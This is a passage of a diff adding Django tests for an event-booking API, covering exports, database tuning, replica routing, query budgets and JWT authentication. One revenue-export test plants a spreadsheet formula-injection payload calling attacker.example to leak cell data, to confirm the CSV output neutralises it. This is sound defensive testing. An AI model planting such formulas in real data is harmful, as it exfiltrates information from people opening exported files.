+        for seeker in User.objects.filter(username__startswith='seed_seeker_')[:3]:
+            kept.book(seeker)
+        kept.book(outsider)
+
+        with CaptureQueriesContext(connection) as ctx:
+            self.seed('--clear')
+        # No per-row counter UPDATEs from delete signals
+        updates = [q for q in ctx.captured_queries if q['sql'].startswith('UPDATE')]
+        self.assertLess(len(updates), 5)
+
+        kept.refresh_from_db()
+        self.assertEqual((kept.interested_count, kept.confirmed_booking_count), (1, 1))
+        self.assertEqual(Event.objects.count(), 26)
+        self.assertEqual(User.objects.filter(username__startswith='seed_').count(), 43)
+        # Nothing left pointing at deleted users or events
+        interests = Event.interested_users.through.objects
+        self.assertFalse(interests.exclude(user_id__in=User.objects.values('id')).exists())
+        self.assertFalse(Booking.objects.exclude(event_id__in=Event.objects.values('id')).exists())
+
+
+class StreamingExportTests(EventsTestCase):
+    """Export routes stream every row as a JSON array or NDJSON"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.events = [make_event(self.organiser, name=f'Export Event {i}', category='Arts' if i % 2 else 'Tech')
+                       for i in range(5)]
+        for event in self.events[:3]:
+            event.book(self.seeker)
+        self.client = APIClient()
+
+    def export(self, url, **params):
+        # Several writes per export, so chunk boundaries are exercised
+        with mock.patch('events.streaming.EXPORT_ROWS_PER_WRITE', 2):
+            response = self.client.get(url, params)
+            self.assertEqual(response.status_code, 200)
+            self.assertTrue(response.streaming)
+            return response, b''.join(response.streaming_content).decode()
+
+    def test_events_export_as_json_array(self):
+        response, body = self.export(reverse('event-export'))
+        self.assertEqual(response['Content-Type'], 'application/json')
+        rows = json.loads(body)
+        self.assertEqual(sorted(row['id'] for row in rows), sorted(event.pk for event in self.events))
+
+    def test_events_export_as_ndjson_with_filters(self):
+        response, body = self.export(reverse('event-export'), format='ndjson', category='Tech')
+        self.assertEqual(response['Content-Type'], 'application/x-ndjson')
+        self.assertTrue(body.endswith('\n'))
+        rows = [json.loads(line) for line in body.splitlines()]
+        self.assertEqual(len(rows), 3)
+        self.assertTrue(all(row['category'] == 'Tech' for row in rows))
+
+    def test_search_export_puts_best_match_first(self):
+        in_description = make_event(self.organiser, name='Weekend Meetup', description='Casual python hacking session')
+        in_name = make_event(self.organiser, name='Python Conference', description='Talks and workshops all day')
+        _, body = self.export(reverse('event-export'), search='pyth')
+        self.assertEqual([row['id'] for row in json.loads(body)], [in_name.id, in_description.id])
+
+    def test_export_order_matches_event_list(self):
+        _, body = self.export(reverse('event-export'))
+        listed = self.client.get(reverse('event-list'), {'limit': 50}).data['events']
+        self.assertEqual([row['id'] for row in json.loads(body)], [event['id'] for event in listed])
+
+    async def test_exports_stream_asynchronously_under_asgi(self):
+        with mock.patch('events.streaming.EXPORT_ROWS_PER_WRITE', 2):
+            response = await self.async_client.get(reverse('event-export'), {'format': 'ndjson'})
+            self.assertEqual(response.status_code, 200)
+            # An async iterator, so Django does not buffer the export into a list
+            self.assertTrue(response.is_async)
+            chunks = [chunk async for chunk in response.streaming_content]
+        self.assertGreater(len(chunks), 1)
+        rows = [json.loads(line) for line in b''.join(chunks).decode().splitlines()]
+        self.assertEqual(sorted(row['id'] for row in rows), sorted(event.pk for event in self.events))
+
+    def test_empty_exports_are_valid(self):
+        _, body = self.export(reverse('event-export'), search='nothing-matches-this')
+        self.assertEqual(json.loads(body), [])
+        _, body = self.export(reverse('event-export'), format='ndjson', search='nothing-matches-this')
+        self.assertEqual(body, '')
+
+    def test_invalid_filter_is_rejected_before_streaming(self):
+        response = self.client.get(reverse('event-export'), {'category': 'Cooking'})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('category', response.data['fields'])
+
+    def test_bookings_export_requires_authentication(self):
+        self.assertEqual(self.client.get(reverse('user-bookings-export')).status_code, 401)
+
+    def test_bookings_export_matches_bookings_list(self):
+        self.client.force_authenticate(self.seeker)
+        _, body = self.export(reverse('user-bookings-export'), format='ndjson')
+        exported = [json.loads(line) for line in body.splitlines()]
+        listed = self.client.get(reverse('user-bookings')).data['bookings']
+        self.assertEqual(exported, json.loads(json.dumps(listed)))
+
+
+class RevenueExportTests(EventsTestCase):
+    """Organizer revenue streams as CSV/NDJSON from one values_list() query"""
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.organiser.profile.role = 'Organizer'
+        self.organiser.profile.save()
+        self.gig = make_event(self.organiser, name='Gig', ticket_price=Decimal('10.00'))
+        self.talk = make_event(self.organiser, name='Talk', ticket_price=Decimal('0.00'),
+                               date_time=timezone.now() + timedelta(days=9))
+        self.fans = [User.objects.create_user(f'fan{i}', f'fan{i}@example.com', 'secret123') for i in range(3)]
+        for fan in self.fans:
+            self.gig.book(fan)
+        self.client = APIClient()
+        self.client.force_authenticate(self.organiser)
+        self.url = reverse('organizer-revenue-export')
+
+    def export(self, **params):
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(self.url, params)
+            self.assertEqual(response.status_code, 200)
+            body = b''.join(response.streaming_content).decode()
+        return response, body, ctx.captured_queries
+
+    def test_csv_per_booking_rows_carry_event_totals(self):
+        response, body, queries = self.export()
+        self.assertTrue(response['Content-Type'].startswith('text/csv'))
+        self.assertEqual(len(queries), 1)
+        lines = list(csv.DictReader(StringIO(body)))
+        self.assertEqual(len(lines), 3)
+        self.assertEqual({line['attendee'] for line in lines}, {'fan0', 'fan1', 'fan2'})
+        self.assertTrue(all(line['event_bookings'] == '3' for line in lines))
+        # SQLite drops trailing zeros from computed decimals; compare values
+        self.assertTrue(all(Decimal(line['event_revenue']) == Decimal('30.00') for line in lines))
+
+    def test_ndjson_per_event_includes_events_without_bookings(self):
+        _, body, _ = self.export(format='ndjson', group='event')
+        rows = [json.loads(line) for line in body.splitlines()]
+        self.assertEqual([(row['event_name'], row['bookings'], row['revenue']) for row in rows],
+                         [('Gig', 3, '30.00'), ('Talk', 0, '0.00')])
+
+    def test_csv_neutralises_formulas_but_json_keeps_values(self):
+        name = '=HYPERLINK("http://attacker.example/?d="&A1,"Tickets")'
+        Event.objects.filter(pk=self.gig.pk).update(name=name, location='@SUM(1+1)')
+        _, body, _ = self.export(format='csv', group='event')
+        gig = next(line for line in csv.DictReader(StringIO(body)) if line['event_id'] == str(self.gig.pk))
+        self.assertEqual(gig['event_name'], f"'{name}")
+        self.assertEqual(gig['location'], "'@SUM(1+1)")
+        # Only text is quoted; decimals (negative ones included) stay numbers
+        self.assertEqual(Decimal(gig['revenue']), Decimal('30.00'))
+
+        _, body, _ = self.export(format='ndjson', group='event')
+        self.assertIn(name, [json.loads(line)['event_name'] for line in body.splitlines()])
+
+    def test_date_range_limits_bookings(self):
+        _, body, _ = self.export(to=(timezone.now() - timedelta(days=1)).date().isoformat())
+        self.assertEqual(body.strip(), ','.join(OrganizerRevenueExportView.BOOKING_COLUMNS))
+
+    def test_invalid_parameters_and_non_organizers_are_rejected(self):
+        response = self.client.get(self.url, {'group': 'month', 'from': 'yesterday'})
+        self.assertEqual(response.status_code, 400)
+        self.assertEqual(response.data['fields'].keys(), {'group', 'from'})
+        self.client.force_authenticate(self.fans[0])
+        self.assertEqual(self.client.get(self.url).status_code, 403)
+
+
+class SQLiteTuningTests(SimpleTestCase):
+    """SQLITE_TUNED_OPTIONS: WAL, busy timeout and IMMEDIATE write transactions"""
+
+    def setUp(self):
+        directory = tempfile.TemporaryDirectory()
+        self.addCleanup(directory.cleanup)
+        self.path = os.path.join(directory.name, 'tuned.sqlite3')
+        connections['tuned'] = SQLiteDatabaseWrapper(
+            {**connection.settings_dict, 'NAME': self.path, 'OPTIONS': settings.SQLITE_TUNED_OPTIONS},
+            alias='tuned',
+        )
+        self.addCleanup(connections.__delitem__, 'tuned')
+        self.addCleanup(connections['tuned'].close)
+
+    def pragma(self, name):
+        with connections['tuned'].cursor() as cursor:
+            cursor.execute(f'PRAGMA {name}')
+            return cursor.fetchone()[0]
+
+    def test_connection_init_applies_pragmas(self):
+        self.assertEqual(self.pragma('journal_mode'), 'wal')
+        self.assertEqual(self.pragma('synchronous'), 1)  # NORMAL
+        self.assertEqual(self.pragma('busy_timeout'), settings.SQLITE_TUNED_OPTIONS['timeout'] * 1000)
+        self.assertGreater(self.pragma('mmap_size'), 0)
+
+    def test_atomic_takes_the_write_lock_at_begin(self):
+        self.pragma('journal_mode')
+        other = sqlite3.connect(self.path, timeout=0, isolation_level=None)
+        self.addCleanup(other.close)
+
+        with transaction.atomic(using='tuned'):
+            # No statement has run yet, but another writer is already locked out
+            with self.assertRaisesMessage(sqlite3.OperationalError, 'database is locked'):
+                other.execute('BEGIN IMMEDIATE')
+            # WAL: readers are not blocked by the writer
+            other.execute('SELECT count(*) FROM sqlite_master').fetchone()
+        other.execute('BEGIN IMMEDIATE')
+        other.execute('COMMIT')
+
+
+@override_settings(DATABASE_ROUTERS=['events.routers.ReadReplicaRouter'], REPLICA_STICKY_SECONDS=5)
+class ReadReplicaRoutingTests(EventsTestCase):
+    """Safe-method requests read the replica unless the client just wrote"""
+
+    def route(self, request, write=False):
+        """Run request through the middleware; return (read alias before and after the view writes, response)"""
+        seen = {}
+
+        def view(request):
+            seen['before'] = router.db_for_read(Event)
+            seen['session'] = router.db_for_read(Session)
+            seen['user'] = router.db_for_read(User)
+            if write:
+                router.db_for_write(Booking)
+            seen['after'] = router.db_for_read(Event)
+            return HttpResponse()
+
+        response = ReplicaRoutingMiddleware(view)(request)
+        return seen, response
+
+    def test_get_reads_replica_except_sessions_and_users(self):
+        seen, response = self.route(RequestFactory().get('/api/events/'))
+        self.assertEqual((seen['before'], seen['session'], seen['user']), ('replica', 'default', 'default'))
+        self.assertNotIn(STICKY_COOKIE, response.cookies)
+        # Outside a request everything uses the primary
+        self.assertEqual(router.db_for_read(Event), 'default')
+
+    def test_writes_stick_the_client_to_the_primary(self):
+        seen, response = self.route(RequestFactory().post('/api/events/1/book/'), write=True)
+        self.assertEqual(seen['before'], 'default')
+        self.assertEqual(response.cookies[STICKY_COOKIE]['max-age'], 5)
+
+        request = RequestFactory().get('/api/user/bookings/')
+        request.COOKIES[STICKY_COOKIE] = '1'
+        self.assertEqual(self.route(request)[0]['before'], 'default')
+
+    def test_get_that_writes_reads_its_own_write(self):
+        seen, response = self.route(RequestFactory().get('/seeker-dashboard'), write=True)
+        self.assertEqual((seen['before'], seen['after']), ('replica', 'default'))
+        self.assertIn(STICKY_COOKIE, response.cookies)
+
+    @override_settings(DATABASE_ROUTERS=[])
+    def test_replica_reads_are_not_cached_right_after_a_write(self):
+        make_event(User.objects.create_user('organiser', 'org@example.com', 'secret123'))
+        url = reverse('event-list')
+        with mock.patch('events.cache.replica_configured', return_value=True), \
+                mock.patch('events.cache.reading_from_replica', return_value=True):
+            bump_catalogue_version()
+            self.assertEqual(self.client.get(url)['X-Cache'], 'MISS')
+            self.assertEqual(self.client.get(url)['X-Cache'], 'MISS')
+            cache.delete(CATALOGUE_WRITTEN_KEY)
+            self.client.get(url)
+            self.assertEqual(self.client.get(url)['X-Cache'], 'HIT')
+
+
+class QueryIndexTests(EventsTestCase):
+    """
+    EXPLAIN the queries behind the list, my-events, bookings and revenue
+    views and check the planner picks the index added for each of them.
+    """
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        for i in range(3):
+            make_event(self.organiser, name=f'Indexed Event {i}').book(self.seeker)
+        if connection.vendor == 'postgresql':
+            # Tiny test tables are cheaper to scan; make PostgreSQL show the index it would use
+            with connection.cursor() as cursor:
+                cursor.execute('SET LOCAL enable_seqscan = off')
+
+    def assertUsesIndex(self, queryset, index_name):
+        plan = queryset.explain()
+        self.assertIn(index_name, plan, f'{index_name} not used:\n{plan}')
+
+    def test_event_list_pages(self):
+        events = Event.objects.with_stats(self.seeker)
+        self.assertUsesIndex(events.order_by('date_time', 'id')[:EVENTS_PER_PAGE + 1], 'event_date_id_idx')
+        self.assertUsesIndex(
+            events.filter(date_time__gt=timezone.now()).order_by('date_time', 'id')[:EVENTS_PER_PAGE + 1],
+            'event_date_id_idx',
+        )
+        self.assertUsesIndex(
+            events.filter(category='Tech').order_by('date_time', 'id')[:EVENTS_PER_PAGE + 1],
+            'event_category_date_idx',
+        )
+
+    def test_organiser_events(self):
+        self.assertUsesIndex(
+            Event.objects.filter(organiser_id=self.organiser.pk).order_by('-created_at'),
+            'event_organiser_created_idx',
+        )
+
+    def test_user_bookings(self):
+        self.assertUsesIndex(
+            Booking.objects.filter(attendee_id=self.seeker.pk, status='confirmed').order_by('-booking_date'),
+            'booking_attendee_confirmed_idx',
+        )
+
+    def test_revenue_for_a_date_range(self):
+        now = timezone.now()
+        self.assertUsesIndex(
+            Event.objects.filter(organiser_id=self.organiser.pk).with_revenue(now - timedelta(days=30), now),
+            'booking_event_confirmed_idx',
+        )
+
+
+class QueryBudgetTests(EventsTestCase):
+    """
+    Every route in events/urls.py must run the same number of queries with
+    a little data and with a lot, so N+1 patterns (e.g. a serializer field
+    that queries per row) fail here with the offending SQL listed.
+    """
+
+    GROWTH = 15
+
+    # Known N+1 endpoints still to be fixed: url name -> reason. The test
+    # fails once one of them stops growing, so the entry gets removed.
+    KNOWN_N_PLUS_ONE = {}
+
+    def setUp(self):
+        super().setUp()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.organiser.profile.role = 'Organizer'
+        self.organiser.profile.save()
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.staff = User.objects.create_user('staff', 'staff@example.com', 'secret123', is_staff=True)
+        self.event = make_event(self.organiser, name='Target Event')
+        self.runs = 0
+        check_primary_only(self)
+        self.grow(2)
+
+    def grow(self, count):
+        """Add events, fans, bookmarks and bookings around every test user"""
+        for _ in range(count):
+            i = Event.objects.count()
+            event = make_event(self.organiser, name=f'Event {i}')
+            fan = User.objects.create_user(f'fan{i}', f'fan{i}@example.com', 'secret123')
+            for target in (event, self.event):
+                target.book(fan)
+            event.book(self.seeker)
+
+    def fresh_event(self, booked_by_fans=False):
+        self.runs += 1
+        event = make_event(self.organiser, name=f'Budget Event {self.runs}')
+        if booked_by_fans:
+            for fan in User.objects.filter(username__startswith='fan'):
+                event.book(fan)
+        return event
+
+    def endpoint_requests(self):
+        """url name -> callable returning (method, url, data, user), run outside the capture"""
+        event_url = lambda name: reverse(name, args=[self.event.pk])  # noqa: E731
+
+        def register():
+            self.runs += 1
+            return 'post', reverse('register'), {
+                'username': f'newuser{self.runs}', 'email': f'new{self.runs}@example.com',
+                'password': 'secret123', 'first_name': 'New', 'last_name': 'User', 'role': 'Seeker',
+            }, None
+
+        def token_refresh():
+            from rest_framework_simplejwt.tokens import RefreshToken
+            return 'post', reverse('token-refresh'), {'refresh': str(RefreshToken.for_user(self.seeker))}, None
+
+        def create_event():
+            return 'post', reverse('event-create'), {
+                'name': 'Budget Launch', 'description': 'An event created by the budget test',
+                'date_time': (timezone.now() + timedelta(days=3)).isoformat(),
+                'location': 'Main Hall', 'category': 'Tech', 'ticket_price': '10.00',
+            }, self.organiser
+
+        return {
+            'register': register,
+            'login': lambda: ('post', reverse('login'), {'username': 'seeker', 'password': 'secret123'}, None),
+            'token-refresh': token_refresh,
+            'event-list': lambda: ('get', reverse('event-list'), None, self.seeker),
+            'user-bookmarks': lambda: ('get', reverse('user-bookmarks'), None, self.seeker),
+            'event-create': create_event,
+            'user-events': lambda: ('get', reverse('user-events'), None, self.organiser),
+            'event-detail': lambda: ('get', event_url('event-detail'), None, self.seeker),
+            'event-delete': lambda: (
+                'delete', reverse('event-delete', args=[self.fresh_event(booked_by_fans=True).pk]), None, self.organiser
+            ),
+            'event-rsvp': lambda: ('put', event_url('event-rsvp'), None, self.seeker),
+            'event-book': lambda: ('post', reverse('event-book', args=[self.fresh_event().pk]), None, self.seeker),
+            'user-bookings': lambda: ('get', reverse('user-bookings'), None, self.seeker),
+            'event-export': lambda: ('get', reverse('event-export'), None, self.seeker),
+            'user-bookings-export': lambda: ('get', reverse('user-bookings-export'), None, self.seeker),
+            'organizer-revenue': lambda: ('get', reverse('organizer-revenue'), None, self.organiser),
+            'organizer-revenue-export': lambda: ('get', reverse('organizer-revenue-export'), None, self.organiser),
+            'admin-metrics': lambda: ('get', reverse('admin-metrics'), None, self.staff),
+            'health': lambda: ('get', reverse('health'), None, self.staff),
+        }
+
+    def run_endpoint(self, name):
+        method, url, data, user = self.endpoint_requests()[name]()
+        client = APIClient()
+        if user:
+            client.force_authenticate(user)
+        cache.clear()
+        with CaptureQueriesContext(connection) as ctx:
+            response = getattr(client, method)(url, data, format='json')
+            if response.streaming:
+                # Streamed exports run their queries while the body is consumed
+                b''.join(response.streaming_content)
+        self.assertLess(response.status_code, 400, f'{name}: {response.status_code} {getattr(response, "data", None)}')
+        return [query['sql'] for query in ctx.captured_queries]
+
+    def test_every_route_has_a_budget(self):
+        from .urls import urlpatterns
+        self.assertEqual({pattern.name for pattern in urlpatterns}, set(self.endpoint_requests()))
+
+    def test_query_counts_do_not_grow_with_data(self):
+        small = {name: self.run_endpoint(name) for name in self.endpoint_requests()}
+        self.grow(self.GROWTH)
+        for name, small_queries in small.items():
+            with self.subTest(endpoint=name):
+                large_queries = self.run_endpoint(name)
+                if name in self.KNOWN_N_PLUS_ONE:
+                    self.assertNotEqual(
+                        len(large_queries), len(small_queries),
+                        f'{name} is within budget now; remove it from KNOWN_N_PLUS_ONE',
+                    )
+                    continue
+                if len(large_queries) != len(small_queries):
+                    self.fail(
+                        f'{name} ran {len(small_queries)} queries with little data but '
+                        f'{len(large_queries)} after adding {self.GROWTH} events:\n'
+                        + '\n'.join(f'  {i}. {sql}' for i, sql in enumerate(large_queries, 1))
+                    )
+
+
+class JWTSessionBootstrapTests(EventsTestCase):
+    """?token= on page URLs becomes a session once, then is stripped"""
+
+    def setUp(self):
+        super().setUp()
+        from rest_framework_simplejwt.tokens import RefreshToken
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.token = str(RefreshToken.for_user(self.seeker).access_token)
+        self.url = reverse('seeker-dashboard')
+
+    def test_token_logs_in_and_redirects_to_clean_url(self):
+        response = self.client.get(self.url, {'token': self.token, 'tab': 'bookmarks'})
+        self.assertRedirects(response, f'{self.url}?tab=bookmarks', fetch_redirect_response=False)
+        self.assertEqual(self.client.get(self.url).status_code, 200)
+
+    def test_existing_session_is_not_rewritten(self):
+        self.client.get(self.url, {'token': self.token})
+        session_key = self.client.session.session_key
+        with CaptureQueriesContext(connection) as ctx:
+            response = self.client.get(self.url, {'token': self.token})
+        self.assertEqual(response.status_code, 302)
+        self.assertEqual(self.client.session.session_key, session_key)
+        self.assertFalse([q for q in ctx.captured_queries if not q['sql'].startswith('SELECT')])
+
+    def test_invalid_token_is_dropped(self):
+        response = self.client.get(self.url, {'token': 'not-a-jwt'}, follow=True)
+        self.assertRedirects(response, reverse('login-page'))
+
+
+class UserProfileWriteTests(EventsTestCase):
+    """Profiles are written once, at registration, and not on later User saves"""
+
+    def test_register_inserts_profile_with_role_once(self):
+        with CaptureQueriesContext(connection) as ctx:
+            response = APIClient().post(reverse('register'), {
+                'username': 'newbie', 'email': 'newbie@example.com', 'password': 'secret123',
+                'first_name': 'New', 'last_name': 'Bie', 'role': 'Organizer',
+            }, format='json')
+        self.assertEqual(response.status_code, 201, response.data)
+        self.assertEqual(User.objects.get(username='newbie').profile.role, 'Organizer')
+        profile_queries = [q['sql'] for q in ctx.captured_queries if 'events_userprofile' in q['sql']]
+        self.assertEqual(len(profile_queries), 1)
+        self.assertTrue(profile_queries[0].startswith('INSERT'))
+        # Two uniqueness checks, then one INSERT per table
+        self.assertEqual(len(ctx.captured_queries), 4)
+
+    def test_session_login_writes_only_last_login(self):
+        from rest_framework_simplejwt.tokens import RefreshToken
+        seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        token = str(RefreshToken.for_user(seeker).access_token)
+        with CaptureQueriesContext(connection) as ctx:
+            self.client.get(reverse('seeker-dashboard'), {'token': token})
+        self.assertFalse([q for q in ctx.captured_queries if 'events_userprofile' in q['sql']])
+        user_writes = [q['sql'] for q in ctx.captured_queries if q['sql'].startswith('UPDATE "auth_user"')]
+        self.assertEqual(len(user_writes), 1)
+
+
+class StatelessJWTAuthenticationTests(EventsTestCase):
+    """Read requests authenticate from token claims; writes load the user"""
+
+    def setUp(self):
+        super().setUp()
+        active_users.clear()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.organiser.profile.role = 'Organizer'
+        self.organiser.profile.save()
+        self.event = make_event(self.organiser)
+        self.client = APIClient()
+        response = self.client.post(reverse('login'), {'username': 'organiser', 'password': 'secret123'}, format='json')
+        self.client.credentials(HTTP_AUTHORIZATION=f"Bearer {response.data['access']}")
+
+    def user_queries(self, method, url):
+        with CaptureQueriesContext(connection) as ctx:
+            response = getattr(self.client, method)(url)
+        self.assertLess(response.status_code, 400, response.data)
+        return [
+            q['sql'] for q in ctx.captured_queries
+            if 'FROM "auth_user"' in q['sql'] or 'FROM "events_userprofile"' in q['sql']
+        ]
+
+    def test_reads_use_claims_without_user_or_profile_queries(self):
+        self.user_queries('get', reverse('user-events'))  # warms the is_active check
+        self.assertEqual(self.user_queries('get', reverse('organizer-revenue')), [])
+        self.assertEqual(self.user_queries('get', reverse('user-events')), [])
+
+    def test_profile_reads_fields_missing_from_claims(self):
+        User.objects.filter(pk=self.organiser.pk).update(first_name='Ada', last_name='Lovelace')
+        response = self.client.get(reverse('api_user_profile'))
+        self.assertEqual(response.status_code, 200, response.data)
+        self.assertEqual(response.data, {
+            'id': self.organiser.pk,
+            'username': 'organiser',
+            'email': 'org@example.com',
+            'first_name': 'Ada',
+            'last_name': 'Lovelace',
+            'role': 'Organizer',
+        })
+
+    def test_writes_load_the_user(self):
+        self.assertTrue(self.user_queries('put', reverse('event-rsvp', args=[self.event.pk])))
+
+    def test_deactivated_user_is_rejected_once_cache_expires(self):
+        self.client.get(reverse('user-events'))
+        User.objects.filter(pk=self.organiser.pk).update(is_active=False)
+        active_users.clear()
+        self.assertEqual(self.client.get(reverse('user-events')).status_code, 401)
+
+    def test_tokens_without_role_claim_fall_back_to_database(self):
+        from rest_framework_simplejwt.tokens import RefreshToken
+        legacy = RefreshToken.for_user(self.organiser).access_token
+        self.client.credentials(HTTP_AUTHORIZATION=f'Bearer {legacy}')
+        self.assertEqual(self.client.get(reverse('organizer-revenue')).status_code, 200)
+
+
+def async_read_urlconf():
+    """The API URLconf as events/urls.py builds it with ASYNC_READ_VIEWS=True"""
+    spec = importlib.util.find_spec('events.urls')
+    module = importlib.util.module_from_spec(spec)
+    with override_settings(ASYNC_READ_VIEWS=True):
+        spec.loader.exec_module(module)
+    root = ModuleType('async_read_urls')
+    root.urlpatterns = [path('api/', include(module.urlpatterns))]
+    return root
+
+
+class AsyncReadViewTests(EventsTestCase):
+    """The async read views answer exactly like the DRF views they replace"""
+
+    def setUp(self):
+        super().setUp()
+        active_users.clear()
+        self.organiser = User.objects.create_user('organiser', 'org@example.com', 'secret123')
+        self.seeker = User.objects.create_user('seeker', 'seek@example.com', 'secret123')
+        self.events = [make_event(self.organiser, name=f'Async Event {i}') for i in range(3)]
+        self.events[0].book(self.seeker)
+        self.events[1].interested_users.add(self.seeker)
+        response = APIClient().post(reverse('login'), {'username': 'seeker', 'password': 'secret123'}, format='json')
+        self.auth = {'Authorization': f"Bearer {response.data['access']}"}
+        self.urls = {
+            'list': reverse('event-list'),
+            'list-filtered': reverse('event-list') + '?limit=2&upcoming=true',
+            'detail': reverse('event-detail', args=[self.events[0].pk]),
+            'missing': reverse('event-detail', args=[999]),
+            'bookmarks': reverse('user-bookmarks'),
+            'bookings': reverse('user-bookings'),
+            'bookings-compact': reverse('user-bookings') + '?compact=true',
+        }
+        # Expected bodies from the DRF views
+        self.expected = {}
+        for name, url in self.urls.items():
+            for signed_in in (False, True):
+                cache.clear()
+                response = self.client.get(url, headers=self.auth if signed_in else {})
+                self.expected[name, signed_in] = (response.status_code, response.json())
+        cache.clear()
+        self.async_urls = override_settings(ROOT_URLCONF=async_read_urlconf())
+
+    async def test_same_status_and_body_as_sync_views(self):
+        with self.async_urls:
+            self.assertTrue(issubclass(resolve(self.urls['list']).func.view_class, AsyncAPIView))
+            for (name, signed_in), expected in self.expected.items():
+                with self.subTest(endpoint=name, signed_in=signed_in):
+                    await cache.aclear()
+                    response = await self.async_client.get(self.urls[name], headers=self.auth if signed_in else {})
+                    self.assertEqual((response.status_code, response.json()), expected)
+
+    async def test_conditional_get_and_anonymous_cache(self):
+        with self.async_urls:
+            first = await self.async_client.get(self.urls['list'])
+            self.assertEqual(first['X-Cache'], 'MISS')
+            second = await self.async_client.get(self.urls['list'], headers={'If-None-Match': first['ETag']})
+            self.assertEqual(second.status_code, 304)
+            third = await self.async_client.get(self.urls['list'])
+            self.assertEqual(third['X-Cache'], 'HIT')
+            self.assertEqual(third.json(), first.json())
+
+    async def test_async_whitenoise_serves_static_files_and_passes_api_through(self):
+        middleware = [
+            'events.middleware.AsyncWhiteNoiseMiddleware' if name.startswith('whitenoise.') else name
+            for name in settings.MIDDLEWARE
+        ]
+        with self.async_urls, override_settings(
+            MIDDLEWARE=middleware, WHITENOISE_AUTOREFRESH=True, WHITENOISE_USE_FINDERS=True
+        ):
+            response = await self.async_client.get('/static/js/events.js')
+            self.assertEqual(response.status_code, 200)
+            self.assertIn(b'buildEventUrl', response.getvalue())
+            response = await self.async_client.get(self.urls['list'])
+            self.assertEqual(response.status_code, 200)
+
+    def test_unsupported_methods_get_drf_json_405(self):
+        url = self.urls['detail']
+        expected = self.client.delete(url)
+        self.assertEqual(expected.status_code, 405)
+        with self.async_urls:
+            response = async_to_sync(self.async_client.delete)(url)
+        self.assertEqual(response.status_code, 405)
+        self.assertEqual(response.json(), expected.json())
+        self.assertEqual(response['Allow'], expected['Allow'])
+
+    async def test_authentication_errors_match_drf(self):
+        with self.async_urls:
+            response = await self.async_client.get(self.urls['bookings'])
+            self.assertEqual(response.status_code, 401)
+            self.assertIn('Bearer', response['WWW-Authenticate'])
+            response = await self.async_client.get(self.urls['bookings'], headers={'Authorization': 'Bearer not-a-jwt'})
+            self.assertEqual(response.status_code, 401)
+            self.assertEqual(response.json()['error_type'], 'AUTH_ERROR')